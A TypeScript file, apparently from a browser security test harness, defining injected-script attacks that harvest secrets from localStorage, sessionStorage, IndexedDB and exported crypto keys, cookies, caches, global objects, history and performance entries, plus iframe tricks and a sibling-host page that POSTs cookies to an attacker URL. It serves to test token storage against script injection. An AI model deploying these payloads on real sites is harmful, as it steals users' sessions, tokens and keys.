import { attack } from "../attack.js";

export const readLocalStorage = attack({
  name: "reads localStorage",
  threat: "single-execution theft",
  target: "any",
  payload: (it) => it.steal(...Object.values(localStorage)),
});

export const readSessionStorage = attack({
  name: "reads sessionStorage",
  threat: "single-execution theft",
  target: "any",
  payload: (it) => it.steal(...Object.values(sessionStorage)),
});

export const readIndexedDb = attack({
  name: "reads IndexedDB",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    const latin1 = (bytes: Uint8Array) => Array.from(bytes, (byte) => String.fromCharCode(byte)).join("");

    /** Strings, bytes as text, and exportable keys. */
    const look = async (value: unknown, depth = 0): Promise<void> => {
      if (typeof value === "string") it.steal(value);
      if (typeof value !== "object" || value === null || depth > 6) return;
      if (value instanceof ArrayBuffer) it.steal(latin1(new Uint8Array(value)));
      else if (ArrayBuffer.isView(value)) {
        it.steal(latin1(new Uint8Array(value.buffer, value.byteOffset, value.byteLength)));
      } else if (value instanceof CryptoKey) {
        for (const format of ["raw", "jwk", "pkcs8"] as const) {
          await crypto.subtle.exportKey(format, value).then(
            (key) => look(key, depth + 1),
            () => {},
          );
        }
      } else for (const part of Object.values(value)) await look(part, depth + 1);
    };

    for (const { name = "" } of await indexedDB.databases()) {
      const database = await it.done(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        const objects = database.transaction(store).objectStore(store);
        const [keys, values] = await Promise.all([it.done(objects.getAllKeys()), it.done(objects.getAll())]);
        await look(keys);
        await look(values);
      }
      database.close();
    }
  },
});

export const readCookies = attack({
  name: "reads cookies",
  threat: "single-execution theft",
  target: "any",
  payload: (it) => it.steal(document.cookie),
});

export const cookiesFromASiblingHost = attack({
  name: "reads cookies from a sibling host",
  threat: "single-execution theft",
  target: "any",
  async play(stage) {
    await stage.openSignedIn();
    const page = stage.page("<!doctype html><title>Sibling</title>", "a sibling host");
    await stage.browser.goto(page);
    // The page sends the cookies that its own host can read to the attacker's server.
    await stage.browser.evaluate(
      (home) =>
        fetch(`${home}/cookies`, { method: "POST", mode: "no-cors", body: document.cookie }).then(() => {}),
      `${stage.facts.attackerUrl}${stage.attackerPath}`,
    );
  },
});

export const readCacheStorage = attack({
  name: "reads Cache Storage",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        it.steal(request.url, [...request.headers]);
        const response = await cache.match(request);
        it.steal(await response?.text());
      }
    }
    // The browser's HTTP cache, by a request that must not use the network.
    for (const url of [it.tokenEndpoint, it.redirectUri, `${it.apiUrl}me`]) {
      const cached = await fetch(url, { cache: "force-cache" }).catch(() => undefined);
      it.steal(await cached?.text());
    }
  },
});

export const walkGlobals = attack({
  name: "searches all global objects",
  threat: "single-execution theft",
  target: "any",
  payload(it) {
    const seen = new Set<unknown>([it, ...Object.values(it)]);
    const queue: unknown[] = [window, document, ...document.querySelectorAll("*"), history.state];
    while (queue.length > 0) {
      const value = queue.pop();
      if (typeof value === "string") it.steal(value);
      if (value === null || (typeof value !== "object" && typeof value !== "function") || seen.has(value))
        continue;
      seen.add(value);
      if (value instanceof Map || value instanceof Set) queue.push(...(value as Iterable<unknown>));
      for (const key of Reflect.ownKeys(value)) {
        try {
          queue.push((value as Record<PropertyKey, unknown>)[key]);
        } catch {
          // Getters of prototypes throw when read on the prototype itself.
        }
      }
    }
  },
});

export const readDocumentAndHistory = attack({
  name: "reads the document, its URL, its referrer and its history",
  threat: "single-execution theft",
  target: "any",
  payload(it) {
    it.steal(
      document.documentElement.outerHTML,
      location.href,
      document.referrer,
      window.name,
      history.state,
    );
    const { navigation } = window as { navigation?: { entries(): { url: string; getState(): unknown }[] } };
    for (const entry of navigation?.entries() ?? []) it.steal(entry.url, entry.getState());
  },
});

export const readPerformance = attack({
  name: "reads performance entries and reports",
  threat: "single-execution theft",
  target: "any",
  alone: true,
  hook(it) {
    const { ReportingObserver } = window as unknown as {
      ReportingObserver?: new (
        callback: (reports: { toJSON(): unknown }[]) => void,
        options: object,
      ) => { observe(): void };
    };
    new PerformanceObserver((list) => it.steal(list.getEntries())).observe({
      entryTypes: [...PerformanceObserver.supportedEntryTypes],
    });
    if (ReportingObserver) {
      new ReportingObserver((reports) => it.steal(reports), { buffered: true }).observe();
    }
    addEventListener("securitypolicyviolation", ({ blockedURI, documentURI, sourceFile, referrer }) =>
      it.steal(blockedURI, documentURI, sourceFile, referrer),
    );
    addEventListener("load", () => setTimeout(() => it.steal(performance.getEntries()), 0));
  },
});

export const backThroughHistory = attack({
  name: "goes back through the tab's history",
  threat: "single-execution theft",
  target: "any",
  needs: "go back in history and on again",
  hook(it) {
    const look = () => it.steal(location.href, document.referrer, history.state, performance.getEntries());
    look();
    addEventListener("pageshow", look);
    addEventListener("popstate", look);
  },
  async play(stage) {
    await stage.openSignedIn();
    for (let steps = 0; steps < 4; steps++) await stage.browser.driver.navigate().back();
    await stage.openSignedIn();
  },
});

export const cleanFrames = attack({
  name: "sends requests from about:blank, srcdoc, blob: and data: frames",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    const code = `
      for (const url of ${JSON.stringify([
        `${it.apiUrl}me`,
        `${it.apiUrl}redirect?${new URLSearchParams({ to: `${it.attackerUrl}/from-a-frame` })}`,
        `${it.siblingUrl}/from-a-frame`,
        `${it.appUrl}auth/session`,
      ])})
        fetch(url).then(async (r) => parent.postMessage([r.url, [...r.headers], await r.text()], "*"), () => {});`;
    addEventListener("message", ({ data }) => it.steal(data));
    const html = `<script>${code}</script>`;
    const frames: Record<string, string>[] = [
      { src: "about:blank" },
      { srcdoc: html },
      { srcdoc: html, sandbox: "allow-scripts" },
      { src: URL.createObjectURL(new Blob([html], { type: "text/html" })) },
      { src: `data:text/html,${encodeURIComponent(html)}` },
      { src: "/config.json" },
    ];
    for (const attributes of frames) {
      const frame = document.createElement("iframe");
      for (const [name, value] of Object.entries(attributes)) {
        try {
          frame.setAttribute(name, value);
        } catch {
          // Trusted Types refuse srcdoc.
        }
      }
      document.body.append(frame);
      await it.pause(150);
      // A same-origin frame has original globals that no library has replaced.
      try {
        const { fetch, localStorage, sessionStorage, document } = frame.contentWindow as Window &
          typeof globalThis;
        it.steal(Object.values(localStorage), Object.values(sessionStorage), document.cookie);
        for (const url of [`${it.apiUrl}me`, `${it.attackerUrl}/clean`, `${it.siblingUrl}/clean`]) {
          const response = await fetch(url).catch(() => undefined);
          it.steal([...(response?.headers ?? [])], await response?.text());
        }
      } catch {
        // Cross-origin.
      }
    }
    await it.pause(400);
  },
});
